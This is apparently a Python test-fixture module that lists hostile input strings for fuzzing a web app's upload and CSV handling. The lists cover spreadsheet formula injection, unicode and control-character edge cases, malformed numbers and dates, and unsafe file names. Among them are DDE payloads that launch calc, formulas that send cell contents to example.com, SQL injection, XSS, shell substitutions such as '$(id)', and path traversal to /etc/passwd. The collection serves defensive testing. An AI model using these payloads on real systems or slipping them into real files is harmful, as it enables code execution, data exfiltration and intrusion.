"""Hostile strings, in groups: formulas for spreadsheets, texts for whoever reads a flag, names for files."""

from itertools import product

# One string a line would be a thousand lines.
# fmt: off

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
"""How text begins that a spreadsheet may run; the last four are full-width forms of the first four."""

HIDERS = [" ", "\u00a0", '"', "'", "\u200b", "\ufeff", "\u202e", "\v", "\x85"]
"""What may stand before a trigger without keeping a spreadsheet from seeing it."""

SEPARATORS = [",", ";", "|", "\t", "\n"]
"""What a reader with another dialect may take for the end of a cell."""

FORMULAS = [
    *(trigger + "1+1" for trigger in TRIGGERS),
    *(trigger + "SUM(A1:A9)" for trigger in TRIGGERS[:4]),
    *(hider + trigger + "1+1" for hider, trigger in product(HIDERS, "=+-@")),
    *(f"a{separator}=1+1" for separator in SEPARATORS),
    *(f'a"{separator}"=1+1' for separator in SEPARATORS),
    # They run a program, send cells away, or load something.
    "=cmd|'/C calc'!A0", "=cmd|'/C calc'!A0\n", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0", '=HYPERLINK("http://example.com/"&A1,"Click")',
    '=WEBSERVICE("http://example.com/"&A1)', '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    '=IMAGE("https://example.com/?"&A1)', '=DDE("cmd";"/C calc";"!A0")', "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=1+1";=2+2', "=-=-=-", "==1+1", "''=1+1", "'''=1+1", "'\t=1",
    # Formulas inside JSON.
    '["=1"]', '{"a":"=1"}', '{"=1":"a"}', '"=1"',
    # They begin like formulas, and are none.
    "-", "--", "- one thing\n- another", "-5", "-5.50", "-1,234.56", "-1e5", "-inf", "+5", "+49 30 901820",
    "+1 (555) 010-9999", "@someone", "someone@example.com", "=)", "+1!",
    # What a spreadsheet turns into something else when it is opened.
    "2026-02-30", "1/2", "MARCH1", "SEPT2", "007", "00.10", "4111111111111111", "12345678901234567890", "1E10",
    "0x1F", "TRUE", "1:30", "12%", "$5", "#REF!",
]

INVISIBLE = [
    *("\u200b", "\u200c", "\u200d", "\u2060", "\u00ad", "\u034f", "\u061c", "\u180e", "\ufeff", "\ufffe"),
    *("\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"),
    *("\u115f", "\u3164", "\uffa0", "\u2800", "\ufff9", "\ufffb", "\ufffc", "\ufffd", "\U000e0001", "\U000e0041"),
]
BLANKS = [" ", "\t", "\u00a0", "\u1680", "\u2003", "\u2009", "\u202f", "\u205f", "\u3000"]
ENDINGS = ["\n", "\r", "\r\n", "\n\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\n\n", "\r\r"]
CONTROLS = [chr(code) for code in (*range(1, 9), *range(14, 28), 0x1F, 0x7F, *range(0x80, 0x85), *range(0x86, 0xA0))]
HALVES = ["\ud800", "\udbff", "\udc00", "\udfff", "\ud83d", "\ude00"]
"""Halves of characters: JSON can carry them, UTF-8 cannot."""

NULS = ["\0", "\0\0", "a\0", "\0a", "a\0b", "\0,", '\0"', "\0\n", "a,\0b", "\0\ud800", "\0000", "\0u0000"]

NEARLY_ESCAPES = [
    *(
        slashes + tail
        for slashes, tail in product(("\\", "\\\\", "\\\\\\"), ("ud800", "udfff", "u0000", "uD800", "u00e9"))
    ),
    *(slashes + half for slashes, half in product(("\\", "\\\\", "\\\\\\"), ("\ud800", "\udfff", "\0", "u\ud800"))),
    *("\\ud83d\\ude00", "\\ud83d\ude00", "\ud83d\\ude00", "\ud800\\ud800", "\\u\ud800", "\\ud80", "\\ud", "\\u", "\\"),
    *("\\n", "\\N", "\\0", "\\x00", "\\t", "\\,", '\\"', "\\\\", "C:\\users\\ud8", "\\\n", "a\\", '"\\', "\\\r\n"),
]
"""Backslashes as a visitor types them, beside what an escape might stand for."""

QUOTES = [
    *('"' * n for n in range(1, 8)),
    *("'" * n for n in range(1, 5)),
    '""a', 'a""', '"a"', 'a"b', '"a', 'a"', '","', '",', ',"', '"\n"', '"\r"', '"\r\n', '\n"', '","",""', '" "',
    ' "a"',
    "'=1", "''=1", "'''=1", "'-1", "'\t", "'\r", "'\n", "'\0", "'a", "'a'", "' =1", "'\"=1", "\"'=1", "`",
    "\u2018=1\u2019",
    *("\u201cquoted\u201d", "\u00abquoted\u00bb", "it's", "''\ud800", "'\\ud800", "'=\ud800", "=\ud800", "=\0", "'=\0"),
]

DIALECTS = [
    ",", ",,", ",,,", ", ", " ,", "a,b", "a,b,c,d,e", ",a", "a,", ",\n", "\n,", ";", "a;b", ";;", "|", "a|b",
    "a\tb", "\t\t",
    *("#", "# a comment", "//", "--", "sep=;", "sep=,", "a b", " a", "a ", "  ", "a\n", "\na", "a\n\nb", "a\r", "\ra"),
    *("a\rb", "a\r\nb", "a\n\rb", "one\rtwo\rthree\r", "one\r\ntwo\nthree\rfour", 'a,"b\nc",d', "\n" * 20, "\r" * 20),
    "im,Output", "num1,operation,num2,Output\n5,add,7,12\n", "flag", "username", "logs.csv", "im/0.png",
    "../im/0.png",
]

NUMBERS = [
    "0", "-0", "007", "1", "1.0", "1.", ".5", "5.", "1,5", "1.234,56", "1 000", "1_000", "1e5", "1E5", "1e400",
    "-1e-400",
    "-5", "+5", " 5", "5 ", "0x1F", "0b1", "0o17", "1/2", "\u00bd", "\u00b2", "\u0661\u0662", "\uff15",
    "\u2212" + "5", "1e",
    *("4111111111111111", "9007199254740993", "18446744073709551616", "123456789012345678901234567890", "9" * 400),
    "0.1000000000000000055511151231257827", "3.14159265358979323846264338327950288", "1.7976931348623159e308",
    "5e-325",
    *("inf", "-inf", "Infinity", "-Infinity", "INF", "1.#INF", "nan", "NaN", "-nan", "NAN", "1.#QNAN", "1.#IND"),
]
DATES = [
    "2026-11-22", "2026-02-30", "22/11/2026", "11/22/26", "1.2", "1-2", "Jan 1", "12:30", "24:00", "99:99:99",
    "1:30 PM",
    "2026-11-22T19:03:00Z", "2026-11-22 19:03:00.123456+01:00", "0000-00-00", "9999-12-31", "1970-01-01", "P1D",
    "00:00",
]
WORDS = [
    "null", "NULL", "Null", "None", "none", "nil", "NA", "N/A", "n/a", "#N/A", "#NA", "<NA>", "undefined", "-",
    "?", ".",
    "TRUE", "True", "true", "T", "FALSE", "False", "false", "F", "yes", "no", "on", "off", "y", "n", "\\N",
    "(null)", "empty",
]
CODE = [
    "{}", "[]", "[", "]", "{", "[[", "[]]", '{"a": 1}', '["a", "b"]', '{"a": "b\\n"}', "{'a': 1}", "[1, 2", '"a',
    "[NaN]",
    '{"__proto__": 1}', "[null]", "{{7*7}}", "${7*7}", "{% raw %}", "#{7*7}", "%s%n%d", "{0}", "{a.__class__}",
    "%00", "%0d%0a",
    "' OR 1=1 --", "1; DROP TABLE flags", "'); DELETE FROM flags; --", "UNION SELECT 1", '" OR ""="', "/* */",
    "\\'; --", "%' --",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!-- -->", "]]>", "&lt;", "&#0;",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)", "'\"><b>", "</textarea>", "<![CDATA[", "<?xml?>", "&amp;amp;",
    "\" autofocus onfocus='alert(1)",
    "; ls", "$(id)", "`id`", "| cat", "&& id", "../../etc/passwd", "/dev/null", "C:\\CON", "file:///etc/passwd",
    "~", "$HOME", "*",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\b\b\bhidden", "a\bb", "\x1b[2J", "(?:a+)+$", "^$", "\\d+",
    "import os", "eval(1)",
]
SCRIPTS = [
    "gr\u00fc\u00dfe", "\u65e5\u672c\u8a9e", "\uc548\ub155", "\u043f\u0440\u0438\u0432\u0435\u0442",
    "\u0645\u0631\u062d\u0628\u0627",
    "\u05e9\u05dc\u05d5\u05dd", "\u0928\u092e\u0938\u094d\u0924\u0947", "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35",
    "\u10d2\u10d0", "\u1f00\u1f04",
    "\u0130i\u0131I", "\u1e9e\u00df", "\ufb01", "\u2460", "\u210c", "\u01c4\u01c5", "\uff21\uff22", "\u0410A",
    "\u212a", "\u2126",
    "\u00e9", "e\u0301", "\u00c5", "A\u030a", "\u212b", "\u1e69", "s\u0323\u0307", "s\u0307\u0323",
    "\u1100\u1161", "\uac00",
    "e" + "\u0301" * 50, "\u0301", "\u20dd", "Z\u0351\u036b\u0343\u036a\u0302", "\u0e49\u0e49\u0e49", "\u0300a",
    "a\u20e3", "\u0488",
    "\U0001f600", "\U0001f469\u200d\U0001f4bb", "\U0001f1e9\U0001f1ea", "\U0001f44b\U0001f3fd", "1\ufe0f\u20e3",
    "\u2764\ufe0f", "\u2764\ufe0e",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\U0001f600" * 100, "\U00020000",
    "\U0010ffff", "\ue000", "\ufdd0", "\uffff", "\U0001fffe", "\ufdfa", "\u0600", "\u070f", "\U000110bd",
    "\U0001d173", "\ua9c5", "\u2e3b",
]
LONG = [
    "a" * 1_000, "a b " * 2_500, "a,b;" * 2_500, '"' * 5_000, "one\n" * 2_500, "\u65e5" * 5_000, "\\" * 5_000,
    "a" * 65_536, "-" * 300,
]

TEXTS = list(
    dict.fromkeys(
        [
            *("", "text", "two words", "one\ntwo"),
            *(QUOTES + DIALECTS + NUMBERS + DATES + WORDS + CODE + SCRIPTS + LONG + NULS + NEARLY_ESCAPES + CONTROLS),
            *(frame.format(mark) for frame, mark in product(("{}", "a{}", "{}a", "a{}b"), ENDINGS + HALVES)),
            *(frame.format(mark) for frame, mark in product(("{}", "a{}b", "{}=1", "1{}"), INVISIBLE + BLANKS)),
        ]
    )
)
"""Texts that a visitor may send, each once."""

NAMES = [
    # They lead elsewhere, or are no name at all.
    "", ".", "..", "...", " ", "../x.txt", "../../etc/passwd", "..\\..\\x.txt", "/abs.txt", "/etc/passwd",
    "//host/x.txt",
    "a/b.txt", "a\\b.txt", "a/../b.txt", "./a.txt", "a/", "a\\", "/", "\\", "~", "~/x.txt", "$HOME/x.txt",
    "file:///x.txt",
    "..%2fx.txt", "%2e%2e/x.txt", "..;/x.txt", "....//x.txt", "%00.txt", "a%00.png", "a\0.png", "\0",
    ".minidemo", "logs.csv",
    # Windows takes them for devices, streams, drives or other files.
    "C:\\x.txt", "C:x.txt", "\\\\host\\x.txt", "\\\\?\\C:\\x", "\\\\.\\NUL", "CON", "con.txt", "NUL.tar.gz",
    "COM1.png", "COM\u00b9",
    "LPT1", "CONIN$", "a.txt::$DATA", "a:b.txt", "secr~1.txt", "a.txt.", "a.txt ", "a. . .", "UPPER.TXT",
    "upper.txt", "a?*<>|.txt",
    # A shell, a page, a server or a header may take them for more than a name.
    ".htaccess", ".bashrc", "-rf", "--help", "$(id).txt", "`id`.txt", "a;b.txt", "a|b.txt", "a&b.txt", "a b.txt",
    "*.txt", "#.txt",
    "'.txt", '".txt', '"; filename="b.txt', "filename*=UTF-8''b.txt", "a\r\nX-Bad: 1.txt", "a\nb.txt",
    "a\rb.txt", "a\tb.txt",
    "<b>.txt", "<img src=x onerror=alert(1)>.png", "javascript:alert(1)", "{{7*7}}.txt", "=1+1.csv",
    "index.html", "a.svg", "a.php",
    # They look like other names.
    "a\u202egnp.exe", "a\u200b.txt", "\ufeffa.txt", "a\u2028.txt", "\u00e9.txt", "e\u0301.txt", "\u2024\u2024/x",
    "a\uff0fb.txt",
    "\U0001f600.png", "\u65e5\u672c.txt", "\u0645\u0644\u0641.txt", "\x1b[31m.txt", "\x7f.txt", "\x85.txt",
    "\ud800.txt", "a.\udfff",
    # They are long, or their suffix is; or the same name comes twice.
    "a" * 255, "a" * 256, "a" * 251 + ".txt", "\u65e5" * 100 + ".txt", "a" * 5_000, "a" * 1_000_000,
    "a." + "x" * 300, "a" + ".b" * 300,
    *("a.tar.gz", "a..txt", "a.", ".txt", "a.t x t", "a.TXT", "a.\u00e9", "a.txt\n", "same.txt", "same.txt"),
]
"""Names that an uploaded file may bear; the last two are one, for two files."""
